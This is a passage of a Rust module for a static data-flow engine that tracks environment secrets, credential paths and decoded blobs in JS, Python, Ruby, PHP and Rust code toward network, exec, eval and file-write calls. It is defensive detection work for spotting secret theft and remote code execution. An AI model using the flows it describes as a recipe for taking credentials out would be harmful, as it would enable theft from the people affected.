//! Data flow inside one file: which values from source classes (the
//! environment, credential paths, host identity, decoded blobs, response
//! bodies…) reach calls of sink classes (network, DNS, exec, eval, file
//! writes…). The classes are data (`rules/flow.toml`, [`FlowClasses`]);
//! this module is the engine that follows values through a tree-sitter
//! tree.
//!
//! # How values are followed
//!
//! A post-order walk gives every node the labels (a bit set of classes) of
//! its value:
//!
//! - a node matching a source class carries that class;
//! - an expression carries the labels of its parts: call arguments and
//!   receivers, string building and formatting, object and array literals,
//!   serialisers (`JSON.stringify(x)` carries `x`'s labels);
//! - an identifier carries what was assigned to that name in the
//!   enclosing scopes (assignments, destructuring, `for … in`, `with … as`,
//!   parameters of local functions called with labelled arguments, and
//!   parameters of callbacks given to a labelled receiver or a source call:
//!   `fetch(u).then(r => …)`, `https.get(u, res => …)`);
//! - a function's value is what it returns (implicitly the body in Ruby and
//!   Rust); calling it by name carries that;
//! - `self.x`/`this.x`/`@x` are shared by the file's functions;
//! - a value assigned from a sink call (`cmd = Command::new("sh")`,
//!   `req = https.request(…)`) forwards what later method calls on it are
//!   given to that sink, as do chained calls (`Command::new("sh").arg(x)`).
//!
//! A sink call records the labels of its receiver and arguments. Walks
//! repeat until no name gains a label (at most [`MAX_PASSES`]); a file
//! with no source or no sink at all stops after the first.
//!
//! # Limits
//!
//! The engine is flow-insensitive and name-based: a name that holds a
//! secret anywhere in a function holds it everywhere in it, and sanitising
//! is not modelled. Both err toward reporting. Walks stop at a node budget
//! and at the parse's deadline, and the file is then marked truncated.

use std::collections::HashMap;
use std::sync::LazyLock;
use std::time::Instant;

use paddock_proto::v1::Language;
use regex::Regex;
use serde::Deserialize;
use tree_sitter::Node;

/// A set of class indices.
pub type Labels = u64;

/// Walks over one file, at most.
pub const MAX_PASSES: usize = 6;

/// An inline flag group that turns verbose mode on.
static VERBOSE_FLAG: std::sync::LazyLock<Regex> =
    std::sync::LazyLock::new(|| Regex::new(r"\(\?[a-zA-Z-]*x[a-zA-Z-]*[:)]").expect("valid"));
/// Nodes visited over all walks of one file, at most.
pub const MAX_NODES: usize = 4_000_000;

/// Why the flow classes could not be loaded.
#[derive(Debug, thiserror::Error)]
pub enum FlowError {
    #[error("{file}: not valid toml: {source}")]
    Toml {
        file: String,
        source: toml::de::Error,
    },
    #[error("{file}: class `{class}`: {reason}")]
    Class {
        file: String,
        class: String,
        reason: String,
    },
}

/// Whether a class labels values or records them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ClassKind {
    Source,
    Sink,
    /// Calls whose value no longer carries the classes it `clears`: a
    /// credential looked up for one host (`netrc.netrc(p).authenticators(host)`)
    /// is used, not taken.
    Sanitiser,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct FlowFile {
    environment: Option<EnvSpec>,
    #[serde(default, rename = "class")]
    classes: Vec<ClassSpec>,
}

#[derive(Debug, Default, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
struct EnvSpec {
    whole: Vec<String>,
    single: Vec<String>,
    accessors: Vec<String>,
    dumps: Vec<String>,
    secret_names: String,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ClassSpec {
    id: String,
    kind: ClassKind,
    description: String,
    #[serde(default)]
    calls: Vec<String>,
    #[serde(default)]
    members: Vec<String>,
    #[serde(default)]
    strings: Vec<String>,
    #[serde(default)]
    identifiers: Vec<String>,
    #[serde(default)]
    handle_methods: Vec<String>,
    #[serde(default)]
    clears: Vec<String>,
}

/// One class, as loaded.
#[derive(Debug, Clone)]
pub struct Class {
    pub id: String,
    pub kind: ClassKind,
    pub description: String,
    handle_methods: Vec<String>,
    /// For a sanitiser: the classes its calls' values lose.
    clears: Labels,
}

/// A callee pattern: `[lang:]callee[|regex over a literal argument]`.
#[derive(Debug, Clone)]
struct CallPattern {
    class: usize,
    lang: Option<&'static str>,
    pattern: String,
    /// `Some(None)`: the call has no arguments; `Some(Some(re))`: one of
    /// its literal arguments matches.
    arg: Option<Option<Regex>>,
}

/// The source and sink classes, compiled.
#[derive(Debug, Clone)]
pub struct FlowClasses {
    classes: Vec<Class>,
    calls: HashMap<String, Vec<CallPattern>>,
    members: HashMap<String, Labels>,
    identifiers: HashMap<String, Labels>,
    /// Per class with string patterns, one expression: its patterns as
    /// alternatives. A set matched for every literal fell back to the
    /// NFA simulation (its Unicode word boundaries and size keep the lazy
    /// DFA out) and took most of the analysis' time; one expression per
    /// class keeps each its literal prefilter.
    strings: Vec<(usize, Regex)>,
    env_whole: Vec<String>,
    env_single: Vec<String>,
    env_accessors: Vec<CallPattern>,
    env_dumps: Vec<CallPattern>,
    secret_names: Regex,
    pub env_var: usize,
    pub env_secret: usize,
    pub env_dump: usize,
    handle: Option<usize>,
}

fn split_lang(p: &str) -> (Option<&'static str>, &str) {
    for (prefix, lang) in [
        ("js:", "js"),
        ("py:", "py"),
        ("rb:", "rb"),
        ("php:", "php"),
        ("rs:", "rs"),
    ] {
        if let Some(rest) = p.strip_prefix(prefix) {
            return (Some(lang), rest);
        }
    }
    (None, p)
}

fn call_pattern(class: usize, text: &str) -> Result<CallPattern, String> {
    let (lang, rest) = split_lang(text.trim());
    let (pattern, arg) = match rest.split_once('|') {
        Some((p, re)) => (p, Some(re)),
        None => match rest.strip_suffix("()") {
            Some(p) => (p, Some("")),
            None => (rest, None),
        },
    };
    if pattern.is_empty() {
        return Err(format!("call pattern `{text}` names no callee"));
    }
    let arg = match arg {
        None => None,
        Some("") => Some(None),
        Some(re) => Some(Some(
            Regex::new(re).map_err(|e| format!("call pattern `{text}`: {e}"))?,
        )),
    };
    Ok(CallPattern {
        class,
        lang,
        pattern: pattern.to_owned(),
        arg,
    })
}

/// The last `.`/`::`/`->` segment of a callee.
pub fn last_segment(callee: &str) -> &str {
    let cut = [".", "::", "->"]
        .iter()
        .filter_map(|s| callee.rfind(s).map(|i| i + s.len()))
        .max()
        .unwrap_or(0);
    &callee[cut..]
}

/// A qualified pattern matches the callee or its suffix at a segment
/// boundary; a short bare one (`eval`) only a bare call; a bare one of 8
/// or more characters also a method of that name.
pub fn callee_matches(callee: &str, pattern: &str) -> bool {
    let callee = callee.trim_start_matches("new ").trim();
    if callee == pattern {
        return true;
    }
    if !pattern.contains(['.', ':']) && pattern.len() < 8 {
        return false;
    }
    match callee.strip_suffix(pattern) {
        Some(head) => head.ends_with('.') || head.ends_with("::") || head.ends_with("->"),
        None => false,
    }
}

impl FlowClasses {
    /// Loads classes from TOML files (`(name, text)`), merged in order;
    /// the `[environment]` table of the last file that has one is used.
    pub fn load(files: &[(String, String)]) -> Result<Self, FlowError> {
        let mut env: Option<EnvSpec> = None;
        let mut specs: Vec<(String, ClassSpec)> = Vec::new();
        for (name, text) in files {
            let file: FlowFile = toml::from_str(text).map_err(|source| FlowError::Toml {
                file: name.clone(),
                source,
            })?;
            if file.environment.is_some() {
                env = file.environment;
            }
            for c in file.classes {
                specs.push((name.clone(), c));
            }
        }
        let env = env.unwrap_or_default();
        let mut classes: Vec<Class> = Vec::new();
        let mut calls: HashMap<String, Vec<CallPattern>> = HashMap::new();
        let mut members: HashMap<String, Labels> = HashMap::new();
        let mut identifiers: HashMap<String, Labels> = HashMap::new();
        let mut string_patterns: Vec<(usize, Vec<String>, bool)> = Vec::new();
        let builtin = ["env-var", "env-secret", "env-dump"];
        for id in builtin {
            classes.push(Class {
                id: id.into(),
                kind: ClassKind::Source,
                description: match id {
                    "env-var" => "one environment variable".into(),
                    "env-secret" => {
                        "an environment variable whose name says it holds a secret".into()
                    }
                    _ => "the whole environment".into(),
                },
                handle_methods: Vec::new(),
                clears: 0,
            });
        }
        let mut clears_of: Vec<(usize, String, String, Vec<String>)> = Vec::new();
        for (file, c) in specs {
            let err = |reason: String| FlowError::Class {
                file: file.clone(),
                class: c.id.clone(),
                reason,
            };
            if c.id.trim().is_empty() {
                return Err(err("id is empty".into()));
            }
            if classes.iter().any(|k| k.id == c.id) {
                return Err(err("defined twice".into()));
            }
            if classes.len() >= 64 {
                return Err(err(
                    "at most 64 classes (61 besides the environment's)".into()
                ));
            }
            let i = classes.len();
            for p in &c.calls {
                let cp = call_pattern(i, p).map_err(&err)?;
                calls
                    .entry(last_segment(&cp.pattern).to_owned())
                    .or_default()
                    .push(cp);
            }
            for m in &c.members {
                *members.entry(m.clone()).or_default() |= 1 << i;
            }
            for id in &c.identifiers {
                *identifiers.entry(id.clone()).or_default() |= 1 << i;
            }
            for s in &c.strings {
                Regex::new(s).map_err(|e| err(format!("string pattern `{s}`: {e}")))?;
                // A pattern in verbose mode (`(?x)`) may end in a comment,
                // which would swallow what follows it: it stands alone.
                let verbose = s.contains("(?") && VERBOSE_FLAG.is_match(s);
                match string_patterns.last_mut() {
                    Some((class, list, false)) if *class == i && !verbose => list.push(s.clone()),
                    _ => string_patterns.push((i, vec![s.clone()], verbose)),
                }
            }
            if !c.handle_methods.is_empty() && c.kind != ClassKind::Sink {
                return Err(err("handle_methods belong to sink classes".into()));
            }
            if (c.kind == ClassKind::Sanitiser) == c.clears.is_empty() {
                return Err(err(
                    "a sanitiser names the classes it clears (`clears`), and only a sanitiser does"
                        .into(),
                ));
            }
            if !c.clears.is_empty() {
                clears_of.push((i, file.clone(), c.id.clone(), c.clears.clone()));
            }
            classes.push(Class {
                id: c.id,
                kind: c.kind,
                description: c.description,
                handle_methods: c.handle_methods,
                clears: 0,
            });
        }
        for (i, file, id, names) in clears_of {
            for name in names {
                let Some(j) = classes.iter().position(|k| k.id == name) else {
                    return Err(FlowError::Class {
                        file,
                        class: id,
                        reason: format!("clears `{name}`, which is no class"),
                    });
                };
                classes[i].clears |= 1 << j;
            }
        }
        let env_file = || "[environment]".to_owned();
        let patterns = |list: &[String], class: usize| {
            list.iter()
                .map(|p| call_pattern(class, p))
                .collect::<Result<Vec<_>, _>>()
                .map_err(|reason| FlowError::Class {
                    file: env_file(),
                    class: "environment".into(),
                    reason,
                })
        };
        let strings = string_patterns
            .into_iter()
            .map(|(class, list, _)| {
                // Each pattern in a group of its own, so its flags stay
                // its own.
                let union = match list.as_slice() {
                    [one] => one.clone(),
                    _ => list
                        .iter()
                        .map(|p| format!("(?:{p})"))
                        .collect::<Vec<_>>()
                        .join("|"),
                };
                Regex::new(&union)
                    .map(|re| (class, re))
                    .map_err(|e| FlowError::Class {
                        file: "flow".into(),
                        class: classes[class].id.clone(),
                        reason: e.to_string(),
                    })
            })
            .collect::<Result<Vec<_>, _>>()?;
        let secret_names = Regex::new(if env.secret_names.is_empty() {
            "$^"
        } else {
            &env.secret_names
        })
        .map_err(|e| FlowError::Class {
            file: env_file(),
            class: "environment".into(),
            reason: format!("secret_names: {e}"),
        })?;
        let handle = classes.iter().position(|c| c.id == "handle");
        Ok(Self {
            env_accessors: patterns(&env.accessors, 0)?,
            env_dumps: patterns(&env.dumps, 2)?,
            env_whole: env.whole,
            env_single: env.single,
            secret_names,
            classes,
            calls,
            members,
            identifiers,
            strings,
            env_var: 0,
            env_secret: 1,
            env_dump: 2,
            handle,
        })
    }

    pub fn classes(&self) -> &[Class] {
        &self.classes
    }

    /// The index of a class by id.
    pub fn index(&self, id: &str) -> Option<usize> {
        self.classes.iter().position(|c| c.id == id)
    }

    /// What the sanitisers among `classes` clear, and their own bits.
    fn cleared_by(&self, classes: Labels) -> Labels {
        self.classes
            .iter()
            .enumerate()
            .filter(|(i, c)| classes & (1 << i) != 0 && c.kind == ClassKind::Sanitiser)
            .fold(0, |a, (i, c)| a | c.clears | (1 << i))
    }

    /// The labels of classes named in `ids`, or the first unknown id.
    pub fn labels(&self, ids: &[String]) -> Result<Labels, String> {
        let mut out = 0;
        for id in ids {
            out |= 1 << self.index(id).ok_or_else(|| id.clone())?;
        }
        Ok(out)
    }

    /// Class ids in a label set.
    pub fn names(&self, labels: Labels) -> Vec<&str> {
        (0..self.classes.len())
            .filter(|i| labels & (1 << i) != 0)
            .map(|i| self.classes[i].id.as_str())
            .collect()
    }

    /// Labels of a string literal's value.
    pub fn string_labels(&self, value: &str) -> Labels {
        let value = bounded(value, 4096);
        self.strings
            .iter()
            .filter(|(_, re)| re.is_match(value))
            .fold(0, |out, (class, _)| out | 1 << class)
    }

    fn pattern_holds(&self, p: &CallPattern, lang: &str, callee: &str, args: &CallArgs) -> bool {
        if p.lang.is_some_and(|l| l != lang) || !callee_matches(callee, &p.pattern) {
            return false;
        }
        match &p.arg {
            None => true,
            Some(None) => args.count == 0,
            Some(Some(re)) => args.literals.iter().any(|l| re.is_match(l)),
        }
    }

    /// Source and sink classes a call matches.
    fn call_classes(&self, lang: &str, callee: &str, args: &CallArgs) -> Labels {
        let callee = callee.trim_start_matches("new ").trim();
        let Some(candidates) = self.calls.get(last_segment(callee)) else {
            return 0;
        };
        let mut out = 0;
        for p in candidates {
            if self.pattern_holds(p, lang, callee, args) {
                out |= 1 << p.class;
            }
        }
        out
    }
}

fn bounded(s: &str, n: usize) -> &str {
    if s.len() <= n {
        return s;
    }
    let mut end = n;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// Where something is in a file.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Site {
    pub line: u32,
    pub snippet: String,
}

/// What a flow rule asks of a sink hit (classes as label sets).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FlowMatch {
    /// A value of one of these classes reaches the call…
    pub from: Labels,
    /// …a call of one of these classes…
    pub to: Labels,
    /// …that carries all of these…
    pub with: Labels,
    /// …and, unless empty, one of these…
    pub toward: Labels,
    /// …and acts on one of these, unless empty (`target`)…
    pub into: Labels,
    /// …and on nothing of these.
    pub not_into: Labels,
}

/// A sink call and the labels that reached it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SinkHit {
    pub class: usize,
    pub labels: Labels,
    /// The labels of what the call acts on: its first argument (the path
    /// written, the command run) and the object it is called on.
    pub target: Labels,
    pub site: Site,
}

/// What the flow walk found in one file.
#[derive(Debug, Clone, Default)]
pub struct FlowFacts {
    /// The first site of every class that occurs, by class index.
    pub present: HashMap<usize, Site>,
    pub sinks: Vec<SinkHit>,
    /// The walk stopped at its budget.
    pub truncated: bool,
    /// What other files need to follow values through this one.
    pub summary: Summary,
}

/// A file's functions as other files of the package see them: what they
/// return, and which calls of functions defined elsewhere it makes.
#[derive(Debug, Clone, Default)]
pub struct Summary {
    /// Functions defined here, with the labels of what they return.
    pub functions: HashMap<String, Labels>,
    /// Names of functions called here but not defined here.
    pub called: std::collections::HashSet<String>,
    /// Calls of functions not defined here whose arguments carry labels:
    /// (name, all arguments' labels, site, each argument's keyword and
    /// labels).
    pub calls: Vec<(String, Labels, Site, ArgLabels)>,
    /// The file calls a sink somewhere.
    pub has_sinks: bool,
}

/// Labels a file's analysis starts from, given by the files it imports
/// or that import it: what imported functions return, and what callers
/// elsewhere pass to this file's functions' parameters.
#[derive(Debug, Clone, Default)]
pub struct Seeds {
    pub returns: HashMap<String, Labels>,
    /// Function name → what a caller passes: all arguments' labels, and
    /// each argument's keyword and labels.
    pub params: HashMap<String, (Labels, ArgLabels)>,
}

/// A call's arguments in order: (keyword, labels).
pub type ArgLabels = Vec<(Option<String>, Labels)>;

/// Calls and called names kept per file, at most.
const MAX_SUMMARY_CALLS: usize = 512;

impl FlowFacts {
    /// The first sink of one of `to` reached by a label in `from` that
    /// also carries every label in `with`.
    /// The first sink hit of a `to` class that carries a `from` class,
    /// every `with` class and (unless `toward` is empty) a `toward` class.
    pub fn find(&self, m: &FlowMatch) -> Option<&SinkHit> {
        self.sinks.iter().find(|h| {
            m.to & (1 << h.class) != 0
                && h.labels & m.from != 0
                && h.labels & m.with == m.with
                && (m.toward == 0 || h.labels & m.toward != 0)
                && h.target & m.not_into == 0
                && (m.into == 0 || h.target & m.into != 0)
        })
    }
}

/// Node kinds of one grammar that the flow walk needs.
struct Spec {
    lang: &'static str,
    /// (kind, callee field, arguments field)
    calls: &'static [(&'static str, &'static str, &'static str)],
    /// Member and subscript access: (kind, object field).
    members: &'static [(&'static str, &'static str)],
    /// (kind, target field, value field); an empty value field: the first
    /// named child that is not the target.
    assigns: &'static [(&'static str, &'static str, &'static str)],
    functions: &'static [&'static str],
    returns: &'static [&'static str],
    /// The body is the return value.
    implicit_return: bool,
    identifiers: &'static [&'static str],
    /// Literals whose children are not visited.
    opaque_strings: &'static [&'static str],
    /// Literals whose interpolations are visited.
    strings: &'static [&'static str],
    /// Backticks and the like: commands run by the shell.
    shell: &'static [&'static str],
    skip: &'static [&'static str],
}

const JS: Spec = Spec {
    lang: "js",
    calls: &[
        ("call_expression", "function", "arguments"),
        ("new_expression", "constructor", "arguments"),
    ],
    members: &[
        ("member_expression", "object"),
        ("subscript_expression", "object"),
    ],
    assigns: &[
        ("variable_declarator", "name", "value"),
        ("assignment_expression", "left", "right"),
        ("augmented_assignment_expression", "left", "right"),
        ("for_in_statement", "left", "right"),
    ],
    functions: &[
        "function_declaration",
        "function_expression",
        "function",
        "arrow_function",
        "method_definition",
        "generator_function_declaration",
        "generator_function",
    ],
    returns: &["return_statement"],
    implicit_return: false,
    identifiers: &["identifier", "shorthand_property_identifier"],
    opaque_strings: &["string", "regex"],
    strings: &["template_string"],
    shell: &[],
    skip: &["comment"],
};

const PYTHON: Spec = Spec {
    lang: "py",
    calls: &[("call", "function", "arguments")],
    members: &[("attribute", "object"), ("subscript", "value")],
    assigns: &[
        ("assignment", "left", "right"),
        ("augmented_assignment", "left", "right"),
        ("named_expression", "name", "value"),
        ("for_statement", "left", "right"),
        ("for_in_clause", "left", "right"),
        ("as_pattern", "alias", ""),
    ],
    functions: &["function_definition", "lambda"],
    returns: &["return_statement"],
    implicit_return: false,
    identifiers: &["identifier"],
    opaque_strings: &[],
    strings: &["string", "concatenated_string"],
    shell: &[],
    skip: &["comment"],
};

const RUBY: Spec = Spec {
    lang: "rb",
    calls: &[("call", "method", "arguments")],
    members: &[("element_reference", "object")],
    assigns: &[
        ("assignment", "left", "right"),
        ("operator_assignment", "left", "right"),
    ],
    functions: &["method", "singleton_method", "block", "do_block", "lambda"],
    returns: &["return"],
    implicit_return: true,
    identifiers: &[
        "identifier",
        "constant",
        "instance_variable",
        "global_variable",
    ],
    opaque_strings: &[],
    strings: &["string", "heredoc_body"],
    shell: &["subshell"],
    skip: &["comment"],
};

const PHP: Spec = Spec {
    lang: "php",
    calls: &[
        ("function_call_expression", "function", "arguments"),
        ("member_call_expression", "name", "arguments"),
        ("scoped_call_expression", "name", "arguments"),
        ("object_creation_expression", "", "arguments"),
    ],
    members: &[
        ("subscript_expression", ""),
        ("member_access_expression", "object"),
    ],
    assigns: &[
        ("assignment_expression", "left", "right"),
        ("augmented_assignment_expression", "left", "right"),
    ],
    functions: &[
        "function_definition",
        "method_declaration",
        "anonymous_function",
        "anonymous_function_creation_expression",
        "arrow_function",
    ],
    returns: &["return_statement"],
    implicit_return: false,
    identifiers: &["variable_name"],
    opaque_strings: &["string"],
    strings: &["encapsed_string", "heredoc"],
    shell: &["shell_command_expression"],
    skip: &["comment"],
};

const RUST: Spec = Spec {
    lang: "rs",
    calls: &[
        ("call_expression", "function", "arguments"),
        ("macro_invocation", "macro", ""),
    ],
    members: &[("field_expression", "value")],
    assigns: &[
        ("let_declaration", "pattern", "value"),
        ("let_condition", "pattern", "value"),
        ("for_expression", "pattern", "value"),
        ("assignment_expression", "left", "right"),
        ("compound_assignment_expr", "left", "right"),
    ],
    functions: &["function_item", "closure_expression"],
    returns: &["return_expression"],
    implicit_return: true,
    identifiers: &["identifier"],
    opaque_strings: &["string_literal", "raw_string_literal"],
    strings: &[],
    shell: &[],
    skip: &["line_comment", "block_comment"],
};

/// What the walk needs to know of a node kind, one bit each: looked up by
/// kind id instead of comparing kind names against the [`Spec`]'s lists at
/// every node.
mod kind {
    pub const IDENT: u16 = 1;
    pub const OPAQUE: u16 = 1 << 1;
    pub const STRING: u16 = 1 << 2;
    pub const SKIP: u16 = 1 << 3;
    pub const FUNCTION: u16 = 1 << 4;
    pub const CALL: u16 = 1 << 5;
    pub const ASSIGN: u16 = 1 << 6;
    pub const MEMBER: u16 = 1 << 7;
    pub const SHELL: u16 = 1 << 8;
    pub const RETURN: u16 = 1 << 9;
    pub const ARG_LIST: u16 = 1 << 10;
    /// `a if c else b`, `c ? a : b`.
    pub const CONDITIONAL: u16 = 1 << 11;
    pub const KEYWORD_ARG: u16 = 1 << 12;
    pub const PAIR: u16 = 1 << 13;
    /// A frame keeps its children.
    pub const KEEP: u16 = FUNCTION | CALL | ASSIGN | MEMBER | SHELL;
    /// `finish` has something to do besides passing labels up.
    pub const ACTS: u16 = IDENT | OPAQUE | STRING | MEMBER | CALL | SHELL | ASSIGN | RETURN;
}

/// [`kind`] bits by kind id for one grammar under one [`Spec`]. Several ids
/// can share a name (aliases, a keyword and a rule); each gets the bits of
/// its name, as comparing names did.
struct Kinds {
    bits: Vec<u16>,
}

impl Kinds {
    fn new(language: &tree_sitter::Language, spec: &Spec) -> Self {
        let count = language.node_kind_count();
        let bits = (0..count)
            .map(|id| {
                let Some(name) = u16::try_from(id)
                    .ok()
                    .and_then(|id| language.node_kind_for_id(id))
                else {
                    return 0;
                };
                let has = |list: &[&str]| list.contains(&name);
                let mut b = 0;
                for (bit, on) in [
                    (kind::IDENT, has(spec.identifiers)),
                    (kind::OPAQUE, has(spec.opaque_strings)),
                    (kind::STRING, has(spec.strings)),
                    (kind::SKIP, has(spec.skip)),
                    (kind::FUNCTION, has(spec.functions)),
                    (kind::CALL, spec.calls.iter().any(|(k, _, _)| *k == name)),
                    (
                        kind::ASSIGN,
                        spec.assigns.iter().any(|(k, _, _)| *k == name),
                    ),
                    (kind::MEMBER, spec.members.iter().any(|(k, _)| *k == name)),
                    (kind::SHELL, has(spec.shell)),
                    (kind::RETURN, has(spec.returns)),
                    (kind::ARG_LIST, ARG_LISTS.contains(&name)),
                    (
                        kind::CONDITIONAL,
                        matches!(
                            name,
                            "conditional_expression" | "ternary_expression" | "conditional"
                        ),
                    ),
                    (kind::KEYWORD_ARG, name == "keyword_argument"),
                    (kind::PAIR, name == "pair"),
                ] {
                    if on {
                        b |= bit;
                    }
                }
                b
            })
            .collect();
        Kinds { bits }
    }

    /// The table for `language` under `spec`, built once per pair.
    fn of(language: &tree_sitter::Language, spec: &'static Spec) -> std::sync::Arc<Kinds> {
        type Tables = Vec<(tree_sitter::Language, &'static str, std::sync::Arc<Kinds>)>;
        static TABLES: LazyLock<std::sync::Mutex<Tables>> = LazyLock::new(Default::default);
        let mut tables = TABLES.lock().unwrap_or_else(|e| e.into_inner());
        if let Some((_, _, k)) = tables
            .iter()
            .find(|(l, s, _)| l == language && *s == spec.lang)
        {
            return k.clone();
        }
        let k = std::sync::Arc::new(Kinds::new(language, spec));
        tables.push((language.clone(), spec.lang, k.clone()));
        k
    }

    fn of_node(&self, node: Node<'_>) -> u16 {
        self.bits
            .get(usize::from(node.kind_id()))
            .copied()
            .unwrap_or(0)
    }
}

fn spec(lang: Language) -> Option<&'static Spec> {
    match lang {
        Language::Javascript | Language::Typescript => Some(&JS),
        Language::Python => Some(&PYTHON),
        Language::Ruby => Some(&RUBY),
        Language::Php => Some(&PHP),
        Language::Rust => Some(&RUST),
        Language::Unspecified => None,
    }
}

/// A call's literal arguments, for conditional patterns.
#[derive(Debug, Default)]
struct CallArgs {
    count: usize,
    literals: Vec<String>,
}

/// Identifier fields that name something rather than read a value.
const NAMING_FIELDS: &[&str] = &[
    "name",
    "attribute",
    "property",
    "key",
    "method",
    "field",
    "label",
    "macro",
    "type",
];

#[derive(Default)]
struct State {
    /// Scope → name → labels (by scope first, so that a lookup by `&str`
    /// allocates nothing).
    env: HashMap<u32, HashMap<String, Labels>>,
    /// Function name → (scope, parameter names).
    functions: HashMap<String, (u32, Vec<String>)>,
    /// Function name → what it returns.
    returns: HashMap<String, Labels>,
    /// Names bound to a sink call, and which hit.
    sink_handles: HashMap<(u32, String), usize>,
    /// Function nodes (by tree node id) → their scope.
    fn_scopes: HashMap<usize, u32>,
    /// Each function scope's parameter names.
    params_of: HashMap<u32, Vec<String>>,
    /// Each function scope's parameters in order, when they are plain
    /// names (no destructuring, no `*args`).
    positional: HashMap<u32, Option<Vec<String>>>,
    /// Functions that fill containers they are given, with what.
    out_params: HashMap<String, Labels>,
    /// Every name an assignment bound, by scope, labelled or not: an
    /// assignment in a nested function to a name an enclosing scope
    /// bound updates that binding too (`let b = ''; res.on('data', d => b += d)`).
    bound: HashMap<u32, std::collections::HashSet<String>>,
    /// Local names of modules and their members (`cp` for
    /// `child_process`, `system` for `os.system`).
    aliases: HashMap<String, String>,
    /// Labels for the parameters of functions by name (from callers in
    /// other files).
    param_seeds: HashMap<String, (Labels, ArgLabels)>,
    /// Names of functions called but not defined here.
    called: std::collections::HashSet<String>,
    /// Names of the functions this file defines, known before the first
    /// walk reaches them.
    defined: std::collections::HashSet<String>,
    changed: bool,
}

/// A literal given to a decoder, decoded (base64 or hex) when that gives
/// text.
fn decode_literal_text(lit: &str) -> Option<String> {
    use base64::Engine as _;
    let t = lit.trim();
    if t.len() < 4 || t.len() > 64 << 10 {
        return None;
    }
    let bytes = if t.len().is_multiple_of(2) && t.bytes().all(|b| b.is_ascii_hexdigit()) {
        hex::decode(t).ok()?
    } else {
        let unpadded = t.trim_end_matches('=');
        base64::engine::general_purpose::STANDARD_NO_PAD
            .decode(unpadded)
            .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(unpadded))
            .ok()?
    };
    let text = String::from_utf8(bytes).ok()?;
    text.chars()
        .all(|c| !c.is_control() || c.is_whitespace())
        .then_some(text)
}

/// Methods of a connection that read what the peer sent.
const READS: &[&str] = &[
    "read",
    "read_to_end",
    "read_to_string",
    "read_exact",
    "read_line",
    "recv",
    "recv_from",
    "recvfrom",
    "recv_into",
    "readinto",
    "readline",
    "readlines",
    "readall",
    "getresponse",
    "gets",
    "readpartial",
    "read_nonblock",
    "fread",
    "fgets",
    "socket_read",
    "stream_get_contents",
    "curl_exec",
];

/// Methods that put their arguments into their receiver.
const MUTATORS: &[&str] = &[
    "push",
    "unshift",
    "append",
    "appendleft",
    "extend",
    "insert",
    "add",
    "update",
    "set",
    "put",
    "write",
    "writelines",
    "concat",
    "merge",
    "assign",
    "setdefault",
    "push_str",
    "extend_from_slice",
    "store",
    "merge!",
    "update!",
    "concat!",
    "append!",
];

static REQUIRE_CALL: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(r#"(?:\brequire|\b__import__|\bimportlib\.import_module)\(\s*['"](?:node:)?([\w./@-]+)['"]\s*\)"#)
        .expect("valid")
});

/// Module aliases read off a file's imports, cheaply, by pattern:
/// `const cp = require('child_process')`, `const { exec } = require(…)`,
/// `import * as cp from '…'`, `import { exec as run } from '…'`,
/// `import subprocess as sp`, `from os import system as run`.
fn module_aliases(lang: Language, source: &[u8]) -> HashMap<String, String> {
    static JS: LazyLock<[regex::Regex; 3]> = LazyLock::new(|| {
        [
            // Also later declarators of one statement, as minifiers write
            // them: `const e=require("fs"),s=require("https")`.
            regex::Regex::new(r#"(?:\b(?:const|let|var)\s+|,\s*)([A-Za-z_$][\w$]*)\s*=\s*require\(\s*['"](?:node:)?([\w./@-]+)['"]\s*\)"#).expect("valid"),
            regex::Regex::new(r#"(?:\b(?:const|let|var)\s*|,\s*)\{([^}]{1,400})\}\s*=\s*require\(\s*['"](?:node:)?([\w./@-]+)['"]\s*\)"#).expect("valid"),
            regex::Regex::new(r#"import\s+(?:\*\s+as\s+([A-Za-z_$][\w$]*)|([A-Za-z_$][\w$]*)|\{([^}]{1,400})\})\s+from\s+['"](?:node:)?([\w./@-]+)['"]"#).expect("valid"),
        ]
    });
    static PY: LazyLock<[regex::Regex; 2]> = LazyLock::new(|| {
        [
            // `import a as b, c.d as e` (also after a `;`, as minifiers
            // write it): each `x as y`.
            regex::Regex::new(
                r"(?m)(?:^|;)\s*import\s+([\w.]+\s+as\s+\w+(?:\s*,\s*[\w.]+(?:\s+as\s+\w+)?)*)",
            )
            .expect("valid"),
            regex::Regex::new(r"(?m)^\s*from\s+([\w.]+)\s+import\s+\(?([\w ,\n]+?)\)?\s*$")
                .expect("valid"),
        ]
    });
    let mut out = HashMap::new();
    let Ok(text) = std::str::from_utf8(&source[..source.len().min(1 << 20)]) else {
        return out;
    };
    let members = |list: &str, module: &str, out: &mut HashMap<String, String>, sep: &str| {
        for item in list.split(',').take(64) {
            let item = item.trim();
            let (name, local) = match item.split_once(sep) {
                Some((n, l)) => (n.trim(), l.trim()),
                None => (item, item),
            };
            if !name.is_empty()
                && !local.is_empty()
                && local
                    .chars()
                    .all(|c| c.is_alphanumeric() || c == '_' || c == '$')
            {
                out.insert(local.to_owned(), format!("{module}.{name}"));
            }
        }
    };
    match lang {
        Language::Javascript | Language::Typescript => {
            for c in JS[0].captures_iter(text).take(256) {
                out.insert(c[1].to_owned(), c[2].to_owned());
            }
            for c in JS[1].captures_iter(text).take(256) {
                members(&c[1], &c[2], &mut out, ":");
            }
            for c in JS[2].captures_iter(text).take(256) {
                let module = &c[4];
                if let Some(n) = c.get(1).or(c.get(2)) {
                    out.insert(n.as_str().to_owned(), module.to_owned());
                }
                if let Some(list) = c.get(3) {
                    members(list.as_str(), module, &mut out, " as ");
                }
            }
        }
        Language::Python => {
            for c in PY[0].captures_iter(text).take(256) {
                for item in c[1].split(',').take(64) {
                    if let Some((module, local)) = item.trim().split_once(" as ") {
                        out.insert(local.trim().to_owned(), module.trim().to_owned());
                    }
                }
            }
            for c in PY[1].captures_iter(text).take(256) {
                members(&c[2].replace('\n', " "), &c[1], &mut out, " as ");
            }
        }
        _ => {}
